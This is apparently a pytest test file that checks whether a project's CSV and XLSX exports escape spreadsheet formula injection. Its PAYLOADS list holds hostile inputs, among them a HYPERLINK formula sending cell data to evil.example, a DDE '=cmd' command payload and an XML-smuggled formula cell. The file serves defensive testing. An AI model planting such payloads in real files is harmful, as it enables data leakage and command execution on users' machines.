"""Formula injection: user text that looks like a formula stays text in both files."""

from __future__ import annotations

import re

import pytest

from tests.export.export_support import (
    FROM,
    TO,
    FakeQuery,
    make_query,
    ooxml_text,
    read_csv,
    read_xlsx,
    xlsx_parts,
)
from vkurse_stats.export import export_csv, export_xlsx
from vkurse_stats.export.csv import escape_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
    "=1+2",
    "+7 999 123-45-67",
    "-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals sign
    " =1+1",
    "http://evil.example/",  # must not become a link
    "00123",  # must not become a number
    "2026-03-01",  # must not become a date
    # looks like rich text: XlsxWriter's constant-memory mode would copy it into the XML raw
    '<r><t>x</t></r></is></c><c r="Z3"><f>HYPERLINK("http://evil.example","y")</f></c>'
    '<c r="Y3" t="inlineStr"><is><r><t>y</t></r>',
    "_x0041_ & <b>",  # an OOXML escape and markup, literally
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escape_cell(payload: str) -> None:
    escaped = escape_cell(payload)
    if payload.lstrip(" ")[0] in "=+-@\t\r＝":
        assert escaped == "'" + payload
    else:
        assert escaped == payload


def test_plain_text_is_not_escaped() -> None:
    assert escape_cell("Планёрка") == "Планёрка"
    assert escape_cell("web") == "web"
    assert escape_cell("a=b") == "a=b"
    assert escape_cell("") == ""


def _hostile_query(payload: str) -> FakeQuery:
    q = make_query(name=payload, company_id="acme")
    q.events_[0].update(title=payload, organizer_name=payload, id=payload, organizer_id=payload)
    q.planned_[0].update(organizer_name=payload, next_title=payload, next_id=payload)
    q.disk_[0].update(owner_name=payload, owner_id=payload)
    q.devices_[0].update(client=payload, device=payload)
    q.days_[0].clients[payload] = 5  # a client type named by the data shows up in headers
    return q


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_are_escaped(payload: str) -> None:
    q = _hostile_query(payload)
    rows = read_csv(export_csv(q, "acme", FROM, TO))
    header = rows[0]
    # the header cell starts with "Клиенты: ", so it never starts a formula
    assert f"Клиенты: {payload}" in header
    for cell in (c for row in rows for c in row):
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "＝")), repr(cell)
        if cell.startswith("-"):
            pytest.fail(f"cell {cell!r} would be read as a formula")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_text_stays_text(payload: str) -> None:
    q = _hostile_query(payload)
    data = export_xlsx(q, "acme", FROM, TO)
    wb = read_xlsx(data)
    found = 0
    for ws in wb.worksheets:
        assert not ws._hyperlinks, ws.title  # noqa: SLF001 - openpyxl keeps links there
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None
                if ooxml_text(cell.value) == payload:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix, "Excel keeps it text even when the cell is edited"
                    found += 1
    # events: title, organizer, organizer id, id; planned: 3; disk: 2; devices: 2; clients: 1
    assert found == 4 + 3 + 2 + 2 + 1
    assert payload in ooxml_text(wb["Сводка"]["A1"].value)  # the company name, in the title
    parts = xlsx_parts(data)
    for name, xml in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            assert "<f>" not in xml and "<f " not in xml, name
            assert "<hyperlink" not in xml, name
        assert not re.search(r'Type="[^"]*/hyperlink"', xml), name  # no link relationship
